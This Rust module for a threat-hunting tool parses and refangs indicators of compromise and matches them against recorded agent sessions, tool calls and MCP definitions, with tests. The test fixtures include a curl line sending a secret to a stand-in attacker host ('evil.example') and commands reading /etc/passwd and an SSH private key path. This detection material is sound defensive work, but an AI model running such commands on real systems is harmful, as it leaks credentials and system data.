//! Indicators and where they were found.
//!
//! What was typed becomes one pattern per indicator. Hosts match themselves and the names below them, never a part of a
//! longer name; other exact things match as whole words; text matches anywhere. Defanged forms are understood on both
//! sides, in what was typed and in what was said.

use std::collections::{BTreeMap, BTreeSet};

use regex::{Regex, RegexSet, RegexSetBuilder};
use serde_json::Value;

use super::list::{Column, List};
use super::redact::{Redact as _, Redactor, rows};
use crate::text::rfc3339;

/// Longest indicator, in bytes.
const MAX_BYTES: usize = 2_000;

/// Indicators of one hunt.
pub const MAX_INDICATORS: usize = 5_000;

/// Bytes that the compiled patterns of a hunt may take.
const MAX_COMPILED: usize = 200 << 20;

/// Characters around a hit that are shown.
const AROUND: usize = 50;

/// What an indicator is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    /// A host or an IP address.
    Host,
    /// A URL; its host and what follows.
    Url,
    /// An e-mail address.
    Email,
    /// A file hash.
    Hash,
    /// A file or folder.
    Path,
    /// A package.
    Package,
    /// An MCP server or another integration.
    Server,
    /// Any text.
    Text,
}

impl Kind {
    /// The word for it.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Host => "host",
            Self::Url => "url",
            Self::Email => "email",
            Self::Hash => "hash",
            Self::Path => "path",
            Self::Package => "package",
            Self::Server => "mcp",
            Self::Text => "text",
        }
    }
}

/// One thing to look for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    /// What it is.
    pub kind: Kind,
    /// As it was meant: refanged, without the word in front.
    pub value: String,
}

impl Indicator {
    /// Reads what was typed; none when there is nothing.
    ///
    /// # Errors
    /// When it is too long.
    pub fn parse(text: &str) -> Result<Option<Self>, String> {
        let text = text.trim();
        if text.len() > MAX_BYTES {
            return Err(format!("an indicator is longer than {MAX_BYTES} bytes"));
        }
        let named = text.split_once(':').and_then(|(word, rest)| {
            let kind = match word.to_ascii_lowercase().as_str() {
                "host" | "ip" | "domain" => Kind::Host,
                "url" => Kind::Url,
                "email" => Kind::Email,
                "hash" | "sha256" | "sha1" | "md5" => Kind::Hash,
                "path" | "file" => Kind::Path,
                "package" => Kind::Package,
                "mcp" | "server" => Kind::Server,
                "text" => Kind::Text,
                _ => return None,
            };
            (!rest.starts_with("//")).then(|| (kind, rest.trim()))
        });
        let (kind, value) = match named {
            Some((Kind::Text, rest)) => (Kind::Text, rest.to_owned()),
            Some((kind, rest)) => (kind, refanged(rest)),
            None => {
                let value = refanged(text);
                (guess(&value), value)
            }
        };
        let value = match kind {
            Kind::Host => value.trim_end_matches('.').trim_start_matches("*.").to_lowercase(),
            // `npm/left-pad` says where a package is from; the text rarely does.
            Kind::Package => value
                .rsplit_once(['/', ':'])
                .filter(|(from, _)| !from.starts_with('@'))
                .map_or(value.clone(), |(from, name)| {
                    from.find('@').map_or_else(|| name.to_owned(), |at| format!("{}/{name}", &from[at..]))
                }),
            _ => value,
        };
        Ok((!value.is_empty()).then_some(Self { kind, value }))
    }

    /// The pattern that finds it, for a regular expression without look-around.
    #[must_use]
    pub fn pattern(&self) -> String {
        let quoted = regex::escape(&self.value);
        let dots = |text: &str| text.replace("\\.", r"(?:\.|\[\.\]|\[dot\]|\(\.\))");
        match self.kind {
            Kind::Host => {
                format!(r"(?:^|[^a-z0-9.\-]|\.)(?P<hit>{})(?:\.?$|\.?[^a-z0-9.\-\[(]|\.[^a-z0-9])", dots(&quoted))
            }
            Kind::Url => {
                let rest = self.value.split_once("://").map_or(self.value.as_str(), |(_, rest)| rest);
                let (host, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
                let path = path.trim_end_matches('/');
                format!(r"(?:^|[^a-z0-9.\-])(?P<hit>{}{})", dots(&regex::escape(host)), regex::escape(path))
            }
            Kind::Email => format!(r"(?:^|[^a-z0-9._%+\-])(?P<hit>{})(?:$|[^a-z0-9\-])", dots(&quoted)),
            Kind::Hash => format!(r"(?:^|[^a-z0-9])(?P<hit>{quoted})(?:$|[^a-z0-9])"),
            Kind::Package | Kind::Server => format!(r"(?:^|[^a-z0-9\-]|__)(?P<hit>{quoted})(?:$|[^a-z0-9\-]|__)"),
            Kind::Path => format!(r"(?:^|[^a-z0-9])(?P<hit>{quoted})(?:$|[^a-z0-9_\-])"),
            Kind::Text => format!("(?P<hit>{quoted})"),
        }
    }
}

/// Undoes the ways in which addresses are broken so that nothing links them.
fn refanged(text: &str) -> String {
    let mut out = text.to_owned();
    for (broken, whole) in [
        ("[.]", "."),
        ("(.)", "."),
        ("[dot]", "."),
        ("(dot)", "."),
        ("[:]", ":"),
        ("[at]", "@"),
        ("(at)", "@"),
        ("[@]", "@"),
    ] {
        out = out.replace(broken, whole);
    }
    let lower = out.to_ascii_lowercase();
    match ["hxxps://", "hxxp://"].iter().find(|scheme| lower.starts_with(**scheme)) {
        Some(_) => format!("http{}", &out[4..]),
        None => out,
    }
}

fn guess(value: &str) -> Kind {
    let hexadecimal = value.len() >= 32 && value.bytes().all(|b| b.is_ascii_hexdigit());
    if hexadecimal && matches!(value.len(), 32 | 40 | 64 | 96 | 128) {
        return Kind::Hash;
    }
    if value.contains("://") {
        return Kind::Url;
    }
    if value.contains(char::is_whitespace) {
        return Kind::Text;
    }
    if value.starts_with(['/', '~', '.']) || value.contains('\\') || value.get(1..3) == Some(":/") {
        return Kind::Path;
    }
    if let Some((user, host)) = value.split_once('@')
        && !user.is_empty()
        && is_host(host)
    {
        return Kind::Email;
    }
    if is_host(value) || value.parse::<std::net::IpAddr>().is_ok() {
        return Kind::Host;
    }
    Kind::Text
}

/// Ends of names that are more often a file than a host, unless somebody says `host:`.
fn is_host(value: &str) -> bool {
    let host = value.trim_end_matches('.').trim_start_matches("*.");
    let label = |l: &str| !l.is_empty() && l.chars().all(|c| c.is_alphanumeric() || c == '-' || c == '_');
    let last = host.rsplit('.').next().unwrap_or_default();
    host.contains('.') && host.split('.').all(label) && last.len() >= 2 && last.chars().all(char::is_alphabetic)
}

rows! {
    /// A place where some indicator stands.
    pub struct HitFact {
        /// message, call or definition.
        pub source: String,
        /// Identity of it.
        pub source_id: String,
        /// Who speaks, or which tool.
        pub what: String,
        /// What is done with it, where that is known.
        pub relation: Option<String>,
        /// The text.
        pub content: String,
        /// When, microseconds since the epoch.
        pub time_micros: i64,
        /// Login.
        pub login: String,
        /// Stable node id of the device.
        pub device: String,
        /// Agent.
        pub agent: Option<String>,
        /// Session.
        pub session_id: Option<String>,
        /// Conversation.
        pub conversation_id: Option<String>,
        /// Export.
        pub export_key: String,
        /// Record id.
        pub record_id: Option<i64>,
    }
}

/// All indicators of a hunt, ready to look.
pub struct Hunt {
    indicators: Vec<Indicator>,
    patterns: Vec<String>,
    set: RegexSet,
}

/// What a hunt found.
pub struct Found {
    /// A row per indicator.
    pub summary: List,
    /// A row per hit.
    pub hits: List,
    /// Indicators that were not found.
    pub missing: usize,
    /// Hits that are not in the list.
    pub left_out: usize,
}

impl Hunt {
    /// Compiles the indicators, each once.
    ///
    /// # Errors
    /// When there are none, too many, or they are too large together.
    pub fn new(mut indicators: Vec<Indicator>) -> Result<Self, String> {
        let mut seen = BTreeSet::new();
        indicators.retain(|i| seen.insert((i.kind, i.value.to_lowercase())));
        if indicators.is_empty() {
            return Err("there is no indicator to look for".to_owned());
        }
        if indicators.len() > MAX_INDICATORS {
            return Err(format!("{} indicators are more than the {MAX_INDICATORS} of one hunt", indicators.len()));
        }
        let patterns: Vec<String> = indicators.iter().map(|i| format!("(?i){}", i.pattern())).collect();
        let built = RegexSetBuilder::new(&patterns).size_limit(MAX_COMPILED).dfa_size_limit(64 << 20).build();
        let set = built.map_err(|_| "the indicators are too large together; look for fewer at a time".to_owned())?;
        Ok(Self { indicators, patterns, set })
    }

    /// Patterns that together find whatever one of the indicators finds; each small enough for the query engine.
    #[must_use]
    pub fn prefilters(&self) -> Vec<String> {
        let without_names = |i: &Indicator| i.pattern().replace("?P<hit>", "?:");
        let all: Vec<String> = self.indicators.iter().map(without_names).collect();
        all.chunks(100).map(|some| format!("(?i)(?:{})", some.join("|"))).collect()
    }

    /// Sorts out which indicator stands where. The same place found in several ways counts once.
    #[must_use]
    pub fn sort(&self, facts: Vec<HitFact>, limit: usize, redactor: Redactor<'_>) -> Found {
        let mut places: BTreeMap<(usize, String, String, Option<i64>), HitFact> = BTreeMap::new();
        for fact in facts {
            for at in self.set.matches(&fact.content).iter() {
                let login = if fact.source == "definition" { &fact.login } else { "" };
                let key = (at, format!("{} {}", fact.source, fact.source_id), login.to_owned(), None);
                match places.get_mut(&key) {
                    None => {
                        places.insert(key, fact.clone());
                    }
                    // The longer text says more, the entity knows what is done.
                    Some(held) => {
                        let relation = held.relation.take().or_else(|| fact.relation.clone());
                        if fact.content.len() > held.content.len() {
                            *held = fact.clone();
                        }
                        held.relation = relation;
                    }
                }
            }
        }
        let mut hits: Vec<(usize, HitFact)> = places.into_iter().map(|((at, ..), fact)| (at, fact)).collect();
        hits.sort_by(|(a, x), (b, y)| {
            let key = |f: &HitFact| (f.time_micros, f.export_key.clone(), f.record_id, f.source_id.clone());
            key(x).cmp(&key(y)).then_with(|| a.cmp(b))
        });
        let summary = self.summary(&hits, redactor);
        let missing = self.indicators.len() - hits.iter().map(|(at, _)| at).collect::<BTreeSet<_>>().len();
        let left_out = if limit > 0 { hits.len().saturating_sub(limit) } else { 0 };
        hits.truncate(hits.len() - left_out);
        Found { summary, hits: self.hits(hits, redactor), missing, left_out }
    }

    fn summary(&self, hits: &[(usize, HitFact)], redactor: Redactor<'_>) -> List {
        let column = |name, width| Column { name, width };
        let columns = vec![
            column("indicator", 60),
            column("kind", 8),
            column("hits", 8),
            column("users", 6),
            column("sessions", 8),
            column("first_seen", 27),
            column("last_seen", 27),
        ];
        let row = |(at, indicator): (usize, &Indicator)| -> Vec<Value> {
            let of = || hits.iter().filter(move |(hit, _)| *hit == at).map(|(_, fact)| fact);
            let users = of().map(|f| &f.login).collect::<BTreeSet<_>>().len();
            let sessions = of().filter_map(|f| f.session_id.as_ref()).collect::<BTreeSet<_>>().len();
            let times = || of().map(|f| f.time_micros);
            vec![
                redactor(&indicator.value).into(),
                indicator.kind.as_str().into(),
                of().count().into(),
                users.into(),
                sessions.into(),
                times().min().map(rfc3339).into(),
                times().max().map(rfc3339).into(),
            ]
        };
        List { columns, rows: self.indicators.iter().enumerate().map(row).collect() }
    }

    fn hits(&self, hits: Vec<(usize, HitFact)>, redactor: Redactor<'_>) -> List {
        let column = |name, width| Column { name, width };
        let columns = vec![
            column("indicator", 40),
            column("time", 27),
            column("login", 40),
            column("device", 0),
            column("agent", 20),
            column("source", 10),
            column("what", 40),
            column("relation", 20),
            column("excerpt", 110),
            column("session_id", 32),
            column("conversation_id", 0),
            column("export_key", 60),
            column("record_id", 12),
        ];
        let mut compiled: BTreeMap<usize, Option<Regex>> = BTreeMap::new();
        let rows = hits.into_iter().map(|(at, mut fact)| {
            fact.redact(redactor);
            let pattern = compiled.entry(at).or_insert_with(|| Regex::new(&self.patterns[at]).ok());
            vec![
                redactor(&self.indicators[at].value).into(),
                rfc3339(fact.time_micros).into(),
                fact.login.into(),
                fact.device.into(),
                fact.agent.into(),
                fact.source.into(),
                fact.what.into(),
                fact.relation.into(),
                excerpt(&fact.content, pattern.as_ref()).into(),
                fact.session_id.into(),
                fact.conversation_id.into(),
                fact.export_key.into(),
                fact.record_id.into(),
            ]
        });
        List { columns, rows: rows.collect() }
    }
}

/// The hit and what stands around it. The text is redacted before it is cut.
fn excerpt(text: &str, pattern: Option<&Regex>) -> String {
    let Some(hit) = pattern.and_then(|p| p.captures(text)).and_then(|c| c.name("hit")) else {
        return "(inside a secret)".to_owned();
    };
    let before: Vec<char> = text[..hit.start()].chars().rev().take(AROUND).collect();
    let after: String = text[hit.end()..].chars().take(AROUND).collect();
    let lead = if before.len() == AROUND { "…" } else { "" };
    let tail = if after.chars().count() == AROUND { "…" } else { "" };
    let words: String = before.into_iter().rev().chain(hit.as_str().chars().take(200)).chain(after.chars()).collect();
    format!("{lead}{}{tail}", words.split_whitespace().collect::<Vec<_>>().join(" "))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finds(indicator: &str, text: &str) -> bool {
        let indicator = Indicator::parse(indicator).unwrap().unwrap();
        Regex::new(&format!("(?i){}", indicator.pattern())).unwrap().is_match(text)
    }

    #[test]
    fn what_was_typed_is_understood_with_and_without_fangs() {
        let read = |text: &str| Indicator::parse(text).unwrap().map(|i| (i.kind, i.value));
        let is = |kind, value: &str| Some((kind, value.to_owned()));
        assert_eq!(read("Evil[.]Example."), is(Kind::Host, "evil.example"));
        assert_eq!(
            read("hxxps://evil[.]example/x"),
            is(Kind::Url, "https://evil.example/x").map(|(k, _)| (k, "https://evil.example/x".to_owned()))
        );
        assert_eq!(read("10.0.0.1"), is(Kind::Host, "10.0.0.1"));
        assert_eq!(read("ana(at)evil[.]example"), is(Kind::Email, "ana@evil.example"));
        assert_eq!(read(&"ab".repeat(32)), is(Kind::Hash, &"ab".repeat(32)));
        assert_eq!(read("~/.ssh/id_rsa"), is(Kind::Path, "~/.ssh/id_rsa"));
        assert_eq!(read("package:npm/left-pad"), is(Kind::Package, "left-pad"));
        assert_eq!(read("package:npm/@scope/pad"), is(Kind::Package, "@scope/pad"));
        assert_eq!(read("mcp:github"), is(Kind::Server, "github"));
        assert_eq!(read("drop table"), is(Kind::Text, "drop table"));
        assert_eq!(read("text:evil.example"), is(Kind::Text, "evil.example"));
        assert_eq!(read("  "), None);
        assert!(Indicator::parse(&"x".repeat(3_000)).is_err());
    }

    #[test]
    fn hosts_match_themselves_and_what_is_below_them_and_nothing_else() {
        for text in [
            "https://evil.example/x",
            "EVIL.example",
            "a.evil.example:443",
            "(evil.example)",
            "see evil.example.",
            "evil[.]example",
            "user@evil.example",
            "'evil.example'",
            "//evil.example?x",
        ] {
            assert!(finds("evil.example", text), "{text}");
        }
        for text in
            ["notevil.example", "evil.example.org", "evil-example", "my-evil.example", "evil.examples", "evilxexample"]
        {
            assert!(!finds("evil.example", text), "{text}");
        }
        assert!(
            finds("10.0.0.1", "ssh 10.0.0.1") && !finds("10.0.0.1", "110.0.0.1") && !finds("10.0.0.1", "10.0.0.12")
        );
    }

    #[test]
    fn packages_hashes_and_paths_match_as_whole_words() {
        assert!(finds("package:pad", "npm install pad@1.0") && !finds("package:pad", "npm install left-pad"));
        assert!(finds("mcp:github", "mcp__github__get_issue") && !finds("mcp:github", "githubber"));
        assert!(finds("/etc/passwd", "cat /etc/passwd") && !finds("/etc/passwd", "cat /etc/passwd-"));
        let hash = "0123456789abcdef0123456789abcdef";
        assert!(finds(hash, &hash.to_uppercase()) && !finds(hash, &format!("a{hash}")));
        assert!(finds("https://evil.example/x", "curl hxxp://evil[.]example/x/y"));
    }

    #[test]
    fn a_place_found_in_several_ways_counts_once_and_knows_what_is_done() {
        let indicator = |text| Indicator::parse(text).unwrap().unwrap();
        let hunt = Hunt::new(vec![indicator("evil.example"), indicator("nowhere.example"), indicator("EVIL.example")])
            .unwrap();
        let fact = |content: &str, relation: Option<&str>| HitFact {
            source: "call".to_owned(),
            source_id: "c".to_owned(),
            content: content.to_owned(),
            relation: relation.map(str::to_owned),
            ..HitFact::default()
        };
        let facts =
            vec![fact("curl https://evil.example/?k=SECRET", None), fact("evil.example", Some("host destination"))];
        let found = hunt.sort(facts, 10, &|t| t.replace("SECRET", "[..]"));
        assert_eq!((found.summary.rows.len(), found.hits.rows.len(), found.missing, found.left_out), (2, 1, 1, 0));
        assert_eq!(found.hits.rows[0][7], "host destination");
        assert_eq!(found.hits.rows[0][8], "curl https://evil.example/?k=[..]");
        for filter in hunt.prefilters() {
            assert!(Regex::new(&filter).unwrap().is_match("curl https://evil.example/"));
        }
        assert!(Hunt::new(Vec::new()).is_err());
    }
}
